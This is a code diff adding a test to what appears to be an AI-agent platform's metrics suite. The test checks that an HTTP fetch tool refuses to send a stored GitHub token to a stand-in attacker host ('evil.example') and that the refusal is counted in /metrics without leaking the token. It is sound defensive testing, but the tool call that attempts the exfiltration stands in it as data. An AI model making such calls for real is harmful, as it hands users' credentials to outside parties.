@@ -2,12 +2,15 @@
 
 from __future__ import annotations
 
+import pytest
 from fastapi.testclient import TestClient
 
 from nexus.api.app import create_app
 from nexus.bootstrap import bootstrap
 from nexus.db import Database
 from nexus.doorbell import RecordingDoorbell
+from nexus.engine.credentials import Secrets
+from nexus.engine.tools import ToolContext, ToolFailure
 from nexus.settings import Settings
 from tests.contract.engine_support import build_rig
 from tests.contract.outbound_support import message
@@ -74,3 +77,25 @@ def test_metrics_want_the_bearer_token_by_default(database: Database, clock: Fak
 def test_metrics_may_be_left_open_by_a_setting(database: Database, clock: FakeClock) -> None:
     client = _client(database, clock, api_tokens="scrape-token-1", metrics_public=True)
     assert client.get("/metrics").status_code == 200
+
+
+def test_a_credential_a_tool_kept_from_a_host_is_counted_on_metrics(
+    database: Database, clock: FakeClock
+) -> None:
+    # The worker's graph counts in the ledger; the API's /metrics reads it from there.
+    worker = bootstrap(Settings(), database=database, doorbell=RecordingDoorbell())
+    fetch = worker.engine.tools.get("http_fetch")
+    assert fetch is not None
+    context = ToolContext(
+        session_id="s",
+        session_label="dm:x",
+        turn_id="t",
+        persona_id="p",
+        now_ms=0,
+        credentials=Secrets({"github": "ghp_never-sent-1234"}, {"github": ("api.github.com",)}),
+    )
+    with pytest.raises(ToolFailure, match="may not be sent"):
+        fetch.run({"url": "https://evil.example/", "credential": "github"}, context)
+    text = _client(database, clock, metrics_public=True).get("/metrics").text
+    assert 'nexus_security_events_total{kind="credential_refused"} 1.0' in text
+    assert "ghp_never-sent-1234" not in text
